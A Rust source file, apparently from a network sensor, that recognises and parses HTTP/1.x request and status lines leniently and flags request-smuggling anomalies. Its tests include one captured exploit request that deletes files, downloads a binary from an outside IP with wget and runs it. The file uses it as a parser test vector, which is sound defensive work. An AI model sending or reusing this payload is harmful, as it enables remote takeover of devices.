//! Byte-level recognisers: message starts (for content detection and resynchronisation),
//! head boundaries, head parsing (httparse, with a lenient fallback), and framing analysis.

use std::borrow::Cow;
use std::mem::MaybeUninit;

use crate::anomaly::{Anomalies, Anomaly};
use crate::message::{Headers, Version};
use crate::stats::HttpStats;

/// Methods trusted to start a message when scanning for one (resynchronisation) and for the
/// HTTP/0.9 form. Any other token is accepted in a well-formed HTTP/1.x request line.
const KNOWN_METHODS: &[&[u8]] = &[
    b"GET",
    b"POST",
    b"PUT",
    b"DELETE",
    b"PATCH",
    b"HEAD",
    b"OPTIONS",
    b"CONNECT",
    b"TRACE",
    b"QUERY",
    b"PROPFIND",
    b"PROPPATCH",
    b"MKCOL",
    b"COPY",
    b"MOVE",
    b"LOCK",
    b"UNLOCK",
    b"SEARCH",
    b"REPORT",
    b"MKACTIVITY",
    b"CHECKOUT",
    b"CHECKIN",
    b"UNCHECKOUT",
    b"MERGE",
    b"MKCALENDAR",
    b"MKWORKSPACE",
    b"VERSION-CONTROL",
    b"BASELINE-CONTROL",
    b"UPDATE",
    b"LABEL",
    b"ORDERPATCH",
    b"ACL",
    b"BIND",
    b"UNBIND",
    b"REBIND",
    b"LINK",
    b"UNLINK",
    b"PURGE",
    b"M-SEARCH",
    b"NOTIFY",
    b"SUBSCRIBE",
    b"UNSUBSCRIBE",
];

/// Longest method token accepted at all.
const MAX_METHOD: usize = 32;

pub(crate) fn is_tchar(b: u8) -> bool {
    matches!(b,
        b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9'
        | b'!' | b'#' | b'$' | b'%' | b'&' | b'\'' | b'*' | b'+'
        | b'-' | b'.' | b'^' | b'_' | b'`' | b'|' | b'~')
}

fn is_target_byte(b: u8) -> bool {
    matches!(b, 0x21..=0x7e | 0x80..=0xff)
}

fn is_known_method(m: &[u8]) -> bool {
    KNOWN_METHODS.contains(&m)
}

fn is_known_method_prefix(m: &[u8]) -> bool {
    KNOWN_METHODS.iter().any(|k| k.starts_with(m))
}

/// The result of checking bytes against a pattern that may still be incomplete.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Scan<T> {
    Yes(T),
    No,
    NeedMore,
}

/// A request line's shape.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum ReqLine {
    /// `METHOD SP target SP HTTP/1.x EOL`; `len` includes the EOL.
    Http1 { len: usize },
    /// `METHOD SP target EOL` with a known method and an origin or absolute target.
    Http09 {
        len: usize,
        method_end: usize,
        target_end: usize,
    },
}

/// Matches `lit` at the start of `buf`, allowing `buf` to end early.
pub(crate) fn lit_prefix(buf: &[u8], lit: &[u8]) -> Scan<()> {
    let n = buf.len().min(lit.len());
    if buf[..n] != lit[..n] {
        Scan::No
    } else if n < lit.len() {
        Scan::NeedMore
    } else {
        Scan::Yes(())
    }
}

/// Length of an end of line at the start of `buf` (`CRLF` or bare `LF`).
pub(crate) fn eol_len(buf: &[u8]) -> Scan<usize> {
    match buf {
        [] | [b'\r'] => Scan::NeedMore,
        [b'\n', ..] => Scan::Yes(1),
        [b'\r', b'\n', ..] => Scan::Yes(2),
        _ => Scan::No,
    }
}

/// `HTTP/1.0` or `HTTP/1.1`.
fn version1(buf: &[u8]) -> Scan<usize> {
    match lit_prefix(buf, b"HTTP/1.") {
        Scan::Yes(()) => match buf.get(7) {
            None => Scan::NeedMore,
            Some(b'0' | b'1') => Scan::Yes(8),
            Some(_) => Scan::No,
        },
        Scan::No => Scan::No,
        Scan::NeedMore => Scan::NeedMore,
    }
}

/// Checks the request line at the start of `buf`. With `known_only`, the method must be in
/// the known list (used where a false positive would be costly: resynchronisation).
pub(crate) fn scan_request_line(buf: &[u8], known_only: bool) -> Scan<ReqLine> {
    let m = buf
        .iter()
        .take(MAX_METHOD + 1)
        .take_while(|b| is_tchar(**b))
        .count();
    if m > MAX_METHOD {
        return Scan::No;
    }
    if m == buf.len() {
        return if known_only && !is_known_method_prefix(buf) {
            Scan::No
        } else {
            Scan::NeedMore
        };
    }
    if m == 0 || !matches!(buf[m], b' ' | b'\t') {
        return Scan::No;
    }
    let known = is_known_method(&buf[..m]);
    if known_only && !known {
        return Scan::No;
    }
    let t0 = m + 1;
    if buf[m] == b'\t' {
        return lenient_line(buf, t0);
    }
    let t = buf[t0..].iter().take_while(|b| is_target_byte(**b)).count();
    let te = t0 + t;
    if te == buf.len() {
        return Scan::NeedMore;
    }
    if t == 0 {
        // More spaces after the method (`GET  /a HTTP/1.1`), which lenient servers accept.
        return if matches!(buf[t0], b' ' | b'\t') {
            lenient_line(buf, t0)
        } else {
            Scan::No
        };
    }
    match buf[te] {
        b'\r' | b'\n' => {
            let target = &buf[t0..te];
            let plausible = target.starts_with(b"/")
                || target.starts_with(b"http://")
                || target.starts_with(b"https://");
            if !known || !plausible {
                return Scan::No;
            }
            match eol_len(&buf[te..]) {
                Scan::Yes(n) => Scan::Yes(ReqLine::Http09 {
                    len: te + n,
                    method_end: m,
                    target_end: te,
                }),
                Scan::No => Scan::No,
                Scan::NeedMore => Scan::NeedMore,
            }
        }
        b' ' => {
            let v0 = te + 1;
            match version1(&buf[v0..]) {
                Scan::Yes(n) => match eol_len(&buf[v0 + n..]) {
                    Scan::Yes(e) => Scan::Yes(ReqLine::Http1 { len: v0 + n + e }),
                    Scan::No => lenient_line(buf, t0),
                    Scan::NeedMore => Scan::NeedMore,
                },
                Scan::No => lenient_line(buf, t0),
                Scan::NeedMore => Scan::NeedMore,
            }
        }
        b'\t' => lenient_line(buf, t0),
        _ => Scan::No,
    }
}

/// A request line strict parsers reject but lenient servers read, as exploit scripts and
/// odd clients send them: tabs or several spaces as separators, a target containing spaces
/// (`GET /a?x=1 2 HTTP/1.1`), whitespace after the version, a version in lower case or other
/// than 1.0 and 1.1 (`HTTP/1.2`, `HTTP/2.0`, which servers answer, with 505 if need be). The
/// version is what follows the last space or tab, the target the middle
/// ([`lenient_request_line`]). `t0`: where the target's search starts.
fn lenient_line(buf: &[u8], t0: usize) -> Scan<ReqLine> {
    let body = buf[t0..]
        .iter()
        .take_while(|b| is_target_byte(**b) || matches!(**b, b' ' | b'\t'))
        .count();
    let end = t0 + body;
    if end == buf.len() {
        return Scan::NeedMore;
    }
    let e = match eol_len(&buf[end..]) {
        Scan::Yes(e) => e,
        Scan::No => return Scan::No,
        Scan::NeedMore => return Scan::NeedMore,
    };
    match lenient_request_line(&buf[..end]) {
        Some(_) => Scan::Yes(ReqLine::Http1 { len: end + e }),
        None => Scan::No,
    }
}

/// Splits a request line (without its line end) read leniently (see [`lenient_line`]) into
/// method, target and version.
fn lenient_request_line(line: &[u8]) -> Option<(&[u8], &[u8], Version)> {
    let ws = |b: &u8| matches!(*b, b' ' | b'\t');
    let line = trim_ows_end(line);
    let m = line.iter().position(ws)?;
    let v = line.iter().rposition(ws)?;
    let method = &line[..m];
    if m >= v
        || method.is_empty()
        || method.len() > MAX_METHOD
        || !method.iter().all(|b| is_tchar(*b))
    {
        return None;
    }
    let version = lenient_version(&line[v + 1..])?;
    if method == b"PRI" {
        // The HTTP/2 connection preface (`PRI * HTTP/2.0`), not an HTTP/1 request.
        return None;
    }
    let target = trim_ows(&line[m..v]);
    let ok = !target.is_empty() && target.iter().all(|b| is_target_byte(*b) || *b == b' ');
    ok.then_some((method, target, version))
}

/// `HTTP/d.d` in any case. 1.0 is HTTP/1.0; later 1.x and 2 and up are read as HTTP/1.1
/// (a server answers them so); 0.x is not accepted here (HTTP/0.9 has no version).
fn lenient_version(v: &[u8]) -> Option<Version> {
    let [h, t1, t2, p, slash, major, dot, minor] = v else {
        return None;
    };
    let http = [*h, *t1, *t2, *p, *slash].eq_ignore_ascii_case(b"HTTP/");
    if !http || *dot != b'.' || !major.is_ascii_digit() || !minor.is_ascii_digit() {
        return None;
    }
    match (major, minor) {
        (b'0', _) => None,
        (b'1', b'0') => Some(Version::Http10),
        _ => Some(Version::Http11),
    }
}

/// `HTTP/1.x NNN` followed by SP or an end of line; leniently, also with the version in any
/// case, any minor version, and spaces or tabs around the status ([`status_line`]).
pub(crate) fn scan_status_line(buf: &[u8]) -> Scan<()> {
    match status_line(buf, false) {
        Scan::Yes(_) => Scan::Yes(()),
        Scan::No => Scan::No,
        Scan::NeedMore => Scan::NeedMore,
    }
}

/// Reads a status line at the start of `buf` (`line_whole`: `buf` is the whole line, without
/// its end): `HTTP/1.d` (any case), one or more spaces or tabs, three digits, then a space, a
/// tab or the line's end. Returns the version, the status and where the reason may start.
fn status_line(buf: &[u8], line_whole: bool) -> Scan<(Version, u16, usize)> {
    for (i, want) in b"http/1.".iter().enumerate() {
        match buf.get(i) {
            None => return Scan::NeedMore,
            Some(b) if b.to_ascii_lowercase() == *want => {}
            Some(_) => return Scan::No,
        }
    }
    let version = match buf.get(7) {
        None => return Scan::NeedMore,
        Some(b'0') => Version::Http10,
        Some(b) if b.is_ascii_digit() => Version::Http11,
        Some(_) => return Scan::No,
    };
    // Whitespace before the status: some, and not a line of it (garbage, not a response).
    const MOST_WS: usize = 16;
    let ws = buf[8..]
        .iter()
        .take(MOST_WS)
        .take_while(|b| matches!(**b, b' ' | b'\t'))
        .count();
    let d0 = 8 + ws;
    if d0 == buf.len() {
        return Scan::NeedMore;
    }
    if ws == 0 || ws == MOST_WS {
        return Scan::No;
    }
    let mut status = 0u16;
    for i in 0..3 {
        match buf.get(d0 + i) {
            None => return Scan::NeedMore,
            Some(b) if b.is_ascii_digit() => status = status * 10 + u16::from(b - b'0'),
            Some(_) => return Scan::No,
        }
    }
    match buf.get(d0 + 3) {
        None if line_whole => Scan::Yes((version, status, d0 + 3)),
        None => Scan::NeedMore,
        Some(b' ' | b'\t' | b'\r' | b'\n') => Scan::Yes((version, status, d0 + 3)),
        Some(_) => Scan::No,
    }
}

/// What the first bytes of a stream can be.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Start {
    Request,
    Response,
}

/// Content detection at the start of a stream: any well-formed HTTP/1.x request line (any
/// method token), a known-method HTTP/0.9 line, or a status line.
pub(crate) fn classify_start(buf: &[u8]) -> Scan<Start> {
    let req = scan_request_line(buf, false);
    if let Scan::Yes(_) = req {
        return Scan::Yes(Start::Request);
    }
    match scan_status_line(buf) {
        Scan::Yes(()) => Scan::Yes(Start::Response),
        Scan::NeedMore => Scan::NeedMore,
        Scan::No if req == Scan::NeedMore => Scan::NeedMore,
        Scan::No => Scan::No,
    }
}

/// A plausible message start for resynchronisation: a known method with a full HTTP/1.x
/// request line, or a status line. `want` limits which kind is looked for (`None`: both).
pub(crate) fn resync_candidate(buf: &[u8], want: Option<Start>) -> Scan<Start> {
    let req = if want != Some(Start::Response) {
        match scan_request_line(buf, true) {
            Scan::Yes(ReqLine::Http1 { .. }) => return Scan::Yes(Start::Request),
            Scan::Yes(ReqLine::Http09 { .. }) => Scan::No,
            other => other.map_none(),
        }
    } else {
        Scan::No
    };
    let resp = if want != Some(Start::Request) {
        match scan_status_line(buf) {
            Scan::Yes(()) => return Scan::Yes(Start::Response),
            other => other,
        }
    } else {
        Scan::No
    };
    if req == Scan::NeedMore || resp == Scan::NeedMore {
        Scan::NeedMore
    } else {
        Scan::No
    }
}

impl<T> Scan<T> {
    fn map_none(self) -> Scan<()> {
        match self {
            Scan::Yes(_) => Scan::Yes(()),
            Scan::No => Scan::No,
            Scan::NeedMore => Scan::NeedMore,
        }
    }
}

pub(crate) fn find_lf(buf: &[u8], from: usize) -> Option<usize> {
    memchr::memchr(b'\n', buf.get(from..)?).map(|i| from + i)
}

/// Finds the empty line that ends a head, searching from `from` (a position the caller
/// already scanned up to). Returns the head length including the empty line, or the
/// position to resume from next time.
pub(crate) fn find_head_end(buf: &[u8], from: usize) -> Result<usize, usize> {
    let mut i = from;
    while let Some(lf) = find_lf(buf, i) {
        match buf.get(lf + 1) {
            None => return Err(lf),
            Some(b'\n') => return Ok(lf + 2),
            Some(b'\r') => match buf.get(lf + 2) {
                None => return Err(lf),
                Some(b'\n') => return Ok(lf + 3),
                Some(_) => {}
            },
            Some(_) => {}
        }
        i = lf + 1;
    }
    Err(buf.len())
}

/// Why a complete head could not be turned into a message.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum HeadError {
    TooManyHeaders,
    Unparseable,
}

impl HeadError {
    /// The anomaly recorded for a head dropped with this error.
    pub(crate) fn anomaly(self) -> crate::anomaly::Anomaly {
        match self {
            HeadError::TooManyHeaders => crate::anomaly::Anomaly::TooManyHeaders,
            HeadError::Unparseable => crate::anomaly::Anomaly::Unparseable,
        }
    }
}

#[derive(Debug)]
pub(crate) struct ReqHead {
    pub method: Cow<'static, str>,
    pub target: String,
    pub version: Version,
    pub headers: Headers,
}

impl ReqHead {
    /// Heap bytes held (what is not a borrowed method).
    pub(crate) fn heap_size(&self) -> usize {
        crate::message::owned_capacity(&self.method)
            + self.target.capacity()
            + self.headers.heap_size()
    }
}

#[derive(Debug)]
pub(crate) struct RespHead {
    pub status: u16,
    pub reason: Cow<'static, str>,
    pub version: Version,
    pub headers: Headers,
}

const STACK_HEADERS: usize = 128;

/// Methods common enough that a request's is borrowed rather than copied (as sent: a
/// lower-case `get` is copied).
const METHODS: &[&str] = &["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"];

/// `s` borrowed from `usual` when it is one of them, else copied.
fn interned(usual: &[&'static str], s: &str) -> Cow<'static, str> {
    match usual.iter().find(|k| **k == s) {
        Some(k) => Cow::Borrowed(k),
        None => Cow::Owned(s.to_owned()),
    }
}

/// Reason phrases common enough that a response's is borrowed rather than copied.
const REASONS: &[&str] = &[
    "OK",
    "Created",
    "Accepted",
    "No Content",
    "Moved Permanently",
    "Found",
    "Not Modified",
    "Bad Request",
    "Unauthorized",
    "Forbidden",
    "Not Found",
    "Method Not Allowed",
    "Conflict",
    "Unprocessable Entity",
    "Too Many Requests",
    "Internal Server Error",
    "Bad Gateway",
    "Service Unavailable",
    "Gateway Timeout",
];

/// Runs `f` with `max_headers` uninitialised header slots (httparse fills those it uses):
/// on the stack when they fit, else on the heap (only for configurations above
/// `STACK_HEADERS`). Uninitialised, so that each head does not first clear 4 KiB of slots.
fn with_header_slots<'b, R>(
    max_headers: usize,
    f: impl FnOnce(&mut [MaybeUninit<httparse::Header<'b>>]) -> R,
) -> R {
    let mut stack = [const { MaybeUninit::uninit() }; STACK_HEADERS];
    if max_headers <= STACK_HEADERS {
        f(&mut stack[..max_headers])
    } else {
        let mut heap = Vec::with_capacity(max_headers);
        heap.resize_with(max_headers, MaybeUninit::uninit);
        f(&mut heap)
    }
}

fn version_of(v: Option<u8>) -> Version {
    match v {
        Some(0) => Version::Http10,
        _ => Version::Http11,
    }
}

/// Parses a complete request head (`buf` ends with its empty line). The flag says whether
/// the lenient fallback was needed.
pub(crate) fn parse_request_head(
    buf: &[u8],
    max_headers: usize,
) -> Result<(ReqHead, bool), HeadError> {
    with_header_slots(max_headers, |hs| {
        let mut req = httparse::Request::new(&mut []);
        match httparse::ParserConfig::default().parse_request_with_uninit_headers(&mut req, buf, hs)
        {
            Ok(httparse::Status::Complete(_)) => Ok((
                ReqHead {
                    method: interned(METHODS, req.method.unwrap_or_default()),
                    target: req.path.unwrap_or_default().to_string(),
                    version: version_of(req.version),
                    headers: Headers::from_parsed(buf, req.headers),
                },
                false,
            )),
            Err(httparse::Error::TooManyHeaders) => Err(HeadError::TooManyHeaders),
            _ => lenient_request(buf, max_headers).map(|h| (h, true)),
        }
    })
}

/// Parses a complete response head.
pub(crate) fn parse_response_head(
    buf: &[u8],
    max_headers: usize,
) -> Result<(RespHead, bool), HeadError> {
    with_header_slots(max_headers, |hs| {
        let mut resp = httparse::Response::new(&mut []);
        match httparse::ParserConfig::default()
            .parse_response_with_uninit_headers(&mut resp, buf, hs)
        {
            Ok(httparse::Status::Complete(_)) => Ok((
                RespHead {
                    status: resp.code.unwrap_or_default(),
                    reason: interned(REASONS, resp.reason.unwrap_or_default()),
                    version: version_of(resp.version),
                    headers: Headers::from_parsed(buf, resp.headers),
                },
                false,
            )),
            Err(httparse::Error::TooManyHeaders) => Err(HeadError::TooManyHeaders),
            _ => lenient_response(buf, max_headers).map(|h| (h, true)),
        }
    })
}

/// Parses a header block (after an HTTP/0.9 request line), ending with its empty line.
pub(crate) fn parse_header_block(
    buf: &[u8],
    max_headers: usize,
) -> Result<(Headers, bool), HeadError> {
    let mut stack = [httparse::EMPTY_HEADER; STACK_HEADERS];
    let mut heap;
    let hs: &mut [httparse::Header<'_>] = if max_headers <= STACK_HEADERS {
        &mut stack[..max_headers]
    } else {
        heap = vec![httparse::EMPTY_HEADER; max_headers];
        &mut heap
    };
    match httparse::parse_headers(buf, hs) {
        Ok(httparse::Status::Complete((_, parsed))) => {
            Ok((Headers::from_parsed(buf, parsed), false))
        }
        Err(httparse::Error::TooManyHeaders) => Err(HeadError::TooManyHeaders),
        _ => {
            let mut lines = Lines(buf);
            lenient_headers(&mut lines, max_headers).map(|h| (h, true))
        }
    }
}

/// Lines split at LF, one trailing CR removed.
struct Lines<'a>(&'a [u8]);

impl<'a> Iterator for Lines<'a> {
    type Item = &'a [u8];
    fn next(&mut self) -> Option<&'a [u8]> {
        if self.0.is_empty() {
            return None;
        }
        let (line, rest) = match find_lf(self.0, 0) {
            Some(i) => (&self.0[..i], &self.0[i + 1..]),
            None => (self.0, &[][..]),
        };
        self.0 = rest;
        Some(line.strip_suffix(b"\r").unwrap_or(line))
    }
}

fn trim_ows_end(mut b: &[u8]) -> &[u8] {
    while let [rest @ .., b' ' | b'\t'] = b {
        b = rest;
    }
    b
}

fn trim_ows_start(mut b: &[u8]) -> &[u8] {
    while let [b' ' | b'\t', rest @ ..] = b {
        b = rest;
    }
    b
}

fn trim_ows(b: &[u8]) -> &[u8] {
    trim_ows_end(trim_ows_start(b))
}

/// Trims what lenient servers treat as whitespace: SP, HTAB, VT, FF, CR, LF.
fn trim_lenient(mut b: &[u8]) -> &[u8] {
    let ws = |c: &u8| matches!(c, b' ' | b'\t' | 0x0b | 0x0c | b'\r' | b'\n');
    while let [c, rest @ ..] = b {
        if !ws(c) {
            break;
        }
        b = rest;
    }
    while let [rest @ .., c] = b {
        if !ws(c) {
            break;
        }
        b = rest;
    }
    b
}

/// Header lines up to the empty line: `token ":" value` (whitespace before the colon
/// tolerated), values with any bytes, obsolete line folding joined with a space. Lines that
/// cannot be a header (no colon, a name that is no token, a continuation with nothing to
/// continue) are skipped, as lenient clients and servers skip them (a server then answers
/// 400, which is still an exchange worth reporting); the head is flagged non-conforming.
fn lenient_headers(lines: &mut Lines<'_>, max_headers: usize) -> Result<Headers, HeadError> {
    let mut headers = Headers::default();
    for line in lines.by_ref() {
        if line.is_empty() {
            return Ok(headers);
        }
        if matches!(line[0], b' ' | b'\t') {
            if !headers.is_empty() {
                headers.extend_last(b" ");
                headers.extend_last(trim_ows(line));
            }
            continue;
        }
        let Some(colon) = line.iter().position(|b| *b == b':') else {
            continue;
        };
        // Whitespace before the colon is invalid (a smuggling vector: a server rejects it, a
        // proxy may strip it); the head is already flagged non-conforming, so keep the name
        // without it, except on Transfer-Encoding, where the framing analysis flags it.
        let raw = &line[..colon];
        let name = trim_ows_end(raw);
        if name.is_empty() || !name.iter().all(|b| is_tchar(*b)) {
            continue;
        }
        if headers.len() >= max_headers {
            return Err(HeadError::TooManyHeaders);
        }
        let name = if name.eq_ignore_ascii_case(b"transfer-encoding") {
            raw
        } else {
            name
        };
        headers.push(&String::from_utf8_lossy(name), trim_ows(&line[colon + 1..]));
    }
    Err(HeadError::Unparseable)
}

fn lenient_request(buf: &[u8], max_headers: usize) -> Result<ReqHead, HeadError> {
    let mut lines = Lines(buf);
    let line = lines.next().ok_or(HeadError::Unparseable)?;
    // Method up to the first space, version after the last: the target may hold spaces.
    let (method, target, version) = lenient_request_line(line).ok_or(HeadError::Unparseable)?;
    let headers = lenient_headers(&mut lines, max_headers)?;
    Ok(ReqHead {
        method: Cow::Owned(String::from_utf8_lossy(method).into_owned()),
        target: String::from_utf8_lossy(target).into_owned(),
        version,
        headers,
    })
}

fn lenient_response(buf: &[u8], max_headers: usize) -> Result<RespHead, HeadError> {
    let mut lines = Lines(buf);
    let line = lines.next().ok_or(HeadError::Unparseable)?;
    let Scan::Yes((version, status, after)) = status_line(line, true) else {
        return Err(HeadError::Unparseable);
    };
    let reason = trim_ows_start(&line[after..]);
    let headers = lenient_headers(&mut lines, max_headers)?;
    Ok(RespHead {
        status,
        reason: Cow::Owned(String::from_utf8_lossy(reason).into_owned()),
        version,
        headers,
    })
}

/// How a body is delimited.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Framing {
    None,
    Length(u64),
    Chunked,
    /// Until the connection closes (responses only).
    Close,
}

/// What the framing headers of a message say.
#[derive(Debug, Default)]
pub(crate) struct FramingHeaders {
    chunked: bool,
    te_present: bool,
    content_length: Option<u64>,
    /// Codings applied to the body, in order: content codings, then transfer codings.
    pub encoding: Vec<String>,
}

impl FramingHeaders {
    /// Framing of a request: chunked, else Content-Length, else no body.
    pub(crate) fn request(&self) -> Framing {
        if self.chunked {
            Framing::Chunked
        } else {
            match self.content_length {
                Some(0) | None => Framing::None,
                Some(n) => Framing::Length(n),
            }
        }
    }

    /// Framing of a response that may have a body: chunked, else Content-Length, else until
    /// the connection closes.
    pub(crate) fn response(&self) -> Framing {
        if self.chunked {
            Framing::Chunked
        } else {
            match self.content_length {
                Some(0) => Framing::None,
                Some(n) => Framing::Length(n),
                None => Framing::Close,
            }
        }
    }
}

/// Transfer codings written exactly as a strict recipient expects them.
const KNOWN_TRANSFER_CODINGS: &[&str] = &[
    "chunked",
    "gzip",
    "x-gzip",
    "deflate",
    "compress",
    "x-compress",
];

fn lower_lossy(b: &[u8]) -> String {
    String::from_utf8_lossy(b).to_ascii_lowercase()
}

/// Reads Content-Length, Transfer-Encoding and Content-Encoding, flagging the anomalies.
///
/// Decisions (a lenient server's reading, so the sensor sees what a backend would):
/// - `Transfer-Encoding` counts as chunked when any element, with all ASCII whitespace
///   (including VT and FF) trimmed and lowercased, is `chunked`: `chunked, identity`,
///   `\x0bchunked` and `Chunked ` are chunked. An RFC 2047 word or `xchunked` is not.
/// - A `Transfer-Encoding` without chunked is ignored for framing: Content-Length applies
///   when present, else a request has no body and a response runs until close.
/// - With several Content-Length values the first valid one is used.
pub(crate) fn analyse_framing(
    headers: &Headers,
    anomalies: &mut Anomalies,
    stats: &mut HttpStats,
) -> FramingHeaders {
    let mut out = FramingHeaders::default();
    let mut flag = |a: Anomaly, anomalies: &mut Anomalies| {
        if !anomalies.contains(a) {
            anomalies.insert(a);
            stats.anomaly(a);
        }
    };

    // One pass over the fields (names are compared by length first).
    let (mut cl_present, mut cl_invalid, mut cl_conflict) = (false, false, false);
    let mut obfuscated = false;
    let mut elements = 0usize;
    let mut chunked_at: Vec<usize> = Vec::new();
    let mut transfer_codings = Vec::new();
    for (name, value) in headers.iter_bytes() {
        if name.eq_ignore_ascii_case(b"content-length") {
            cl_present = true;
            for elem in value.split(|b| *b == b',') {
                match parse_decimal(trim_ows(elem)) {
                    Some(v) => match out.content_length {
                        None => out.content_length = Some(v),
                        Some(first) if first != v => cl_conflict = true,
                        Some(_) => {}
                    },
                    None => cl_invalid = true,
                }
            }
        } else if name.eq_ignore_ascii_case(b"content-encoding") {
            for raw in value.split(|b| *b == b',') {
                // Trimmed like a lenient client would (VT and FF too), so the body is decoded
                // as the browser would decode it.
                let name = lower_lossy(trim_lenient(raw));
                if !name.is_empty() && name != "identity" {
                    out.encoding.push(name);
                }
            }
        } else if name.len() >= b"transfer-encoding".len()
            && trim_ows_end(name).eq_ignore_ascii_case(b"transfer-encoding")
        {
            transfer_encoding(
                name,
                value,
                &mut out,
                &mut obfuscated,
                &mut elements,
                &mut chunked_at,
                &mut transfer_codings,
            );
        }
    }

    out.chunked = !chunked_at.is_empty();
    if chunked_at.len() > 1 || chunked_at.first().is_some_and(|i| i + 1 != elements) {
        obfuscated = true;
    }

    if out.te_present && cl_present {
        flag(Anomaly::AmbiguousFraming, anomalies);
    }
    if cl_conflict {
        flag(Anomaly::ConflictingContentLength, anomalies);
    }
    if cl_invalid {
        flag(Anomaly::InvalidContentLength, anomalies);
    }
    if obfuscated {
        flag(Anomaly::ObfuscatedTransferEncoding, anomalies);
    }

    // Content-Encoding, then transfer codings: the order they were applied in.
    out.encoding.extend(transfer_codings);
    out
}

/// One `Transfer-Encoding` field, for [`analyse_framing`].
fn transfer_encoding(
    name: &[u8],
    value: &[u8],
    out: &mut FramingHeaders,
    obfuscated: &mut bool,
    elements: &mut usize,
    chunked_at: &mut Vec<usize>,
    transfer_codings: &mut Vec<String>,
) {
    out.te_present = true;
    // `Transfer-Encoding : chunked`: whitespace before the colon (kept by the lenient parser
    // on this header only) is a classic obfuscation.
    if name.len() != b"transfer-encoding".len() {
        *obfuscated = true;
    }
    for raw in value.split(|b| *b == b',') {
        let strict = trim_ows(raw);
        let lenient = lower_lossy(trim_lenient(raw));
        // Coding names are case-insensitive (RFC 9112, section 7): `Chunked` is what some
        // servers send, not an obfuscation.
        let canonical = KNOWN_TRANSFER_CODINGS
            .iter()
            .any(|k| strict.eq_ignore_ascii_case(k.as_bytes()));
        if !canonical {
            *obfuscated = true;
        }
        if lenient == "chunked" {
            chunked_at.push(*elements);
        } else if matches!(
            lenient.as_str(),
            "gzip" | "x-gzip" | "deflate" | "compress" | "x-compress"
        ) {
            transfer_codings.push(lenient);
        }
        *elements += 1;
    }
}

/// A decimal number of one or more digits that fits in a u64.
fn parse_decimal(b: &[u8]) -> Option<u64> {
    if b.is_empty() {
        return None;
    }
    b.iter().try_fold(0u64, |acc, d| {
        if d.is_ascii_digit() {
            acc.checked_mul(10)?.checked_add(u64::from(d - b'0'))
        } else {
            None
        }
    })
}

/// A chunk-size line without its line end: hex digits (leading whitespace tolerated), then
/// optional whitespace and `;extensions`. `None` for junk or a size beyond 64 bits.
pub(crate) fn parse_chunk_size(line: &[u8]) -> Option<u64> {
    let line = line.strip_suffix(b"\r").unwrap_or(line);
    let line = trim_ows(line);
    let digits = line.iter().take_while(|b| b.is_ascii_hexdigit()).count();
    if digits == 0 {
        return None;
    }
    let rest = trim_ows(&line[digits..]);
    if !(rest.is_empty() || rest[0] == b';') {
        return None;
    }
    line[..digits].iter().try_fold(0u64, |acc, d| {
        let v = (*d as char).to_digit(16)?;
        acc.checked_mul(16)?.checked_add(u64::from(v))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn request_lines() {
        assert_eq!(
            scan_request_line(b"GET / HTTP/1.1\r\n", false),
            Scan::Yes(ReqLine::Http1 { len: 16 })
        );
        assert_eq!(
            scan_request_line(b"get /x HTTP/1.0\nHost", false),
            Scan::Yes(ReqLine::Http1 { len: 16 })
        );
        assert_eq!(scan_request_line(b"get /x HTTP/1.0\n", true), Scan::No);
        assert_eq!(
            scan_request_line(b"QUERY /x HTTP/1.1\r\n", true),
            Scan::Yes(ReqLine::Http1 { len: 19 })
        );
        assert_eq!(scan_request_line(b"GET /a", false), Scan::NeedMore);
        assert_eq!(
            scan_request_line(b"GET /a HTTP/1.1\r", false),
            Scan::NeedMore
        );
        // Versions strict parsers reject but servers answer (505 if need be), read leniently;
        // not the HTTP/2 connection preface, which is not HTTP/1 at all.
        for line in [
            &b"GET /a HTTP/2.0\r\n"[..],
            b"GET /a HTTP/1.2\r\n",
            b"GET /a http/1.1\r\n",
            b"GET\t/a\tHTTP/1.1\r\n",
            b"GET /a HTTP/1.1 \r\n",
            b"GET /a\t HTTP/1.1\t\r\n",
        ] {
            assert_eq!(
                scan_request_line(line, true),
                Scan::Yes(ReqLine::Http1 { len: line.len() }),
                "{}",
                String::from_utf8_lossy(line)
            );
        }
        assert_eq!(scan_request_line(b"PRI * HTTP/2.0\r\n", false), Scan::No);
        assert_eq!(scan_request_line(b"GET /a HTTP/0.9\r\n", false), Scan::No);
        assert_eq!(scan_request_line(b"GET /a HTTP/1.1x\r\n", false), Scan::No);
        assert_eq!(scan_request_line(b"GE", true), Scan::NeedMore);
        assert_eq!(scan_request_line(b"GX", true), Scan::No);
        assert_eq!(
            scan_request_line(b"GET /zeek.html\r\n", false),
            Scan::Yes(ReqLine::Http09 {
                len: 16,
                method_end: 3,
                target_end: 14
            })
        );
        let exploit: &[u8] =
            b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm HTTP/1.1\r\nUser";
        assert_eq!(
            scan_request_line(exploit, true),
            Scan::Yes(ReqLine::Http1 {
                len: exploit.len() - 4
            })
        );
        assert_eq!(scan_request_line(b"GET /a b HT", true), Scan::NeedMore);
        assert_eq!(scan_request_line(b"GET /a b\r\n", false), Scan::No);
        assert_eq!(
            scan_request_line(b"GET /a b HTTP/1.1 x\r\n", false),
            Scan::No
        );
        assert_eq!(scan_request_line(b"GET   HTTP/1.1\r\n", false), Scan::No);
        // Redis-style inline command: not HTTP/0.9.
        assert_eq!(scan_request_line(b"GET key\r\n", false), Scan::No);
        assert_eq!(scan_request_line(b"FOO /x\r\n", false), Scan::No);
        assert_eq!(scan_request_line(b"\x16\x03\x01", false), Scan::No);
        assert_eq!(scan_request_line(b"SSH-2.0-OpenSSH_8\r\n", false), Scan::No);
    }

    #[test]
    fn status_lines_and_classification() {
        assert_eq!(scan_status_line(b"HTTP/1.1 200 OK\r\n"), Scan::Yes(()));
        assert_eq!(scan_status_line(b"HTTP/1.0 404\r\n"), Scan::Yes(()));
        assert_eq!(scan_status_line(b"HTTP/1.1 20"), Scan::NeedMore);
        assert_eq!(scan_status_line(b"HTTP/2 200"), Scan::No);
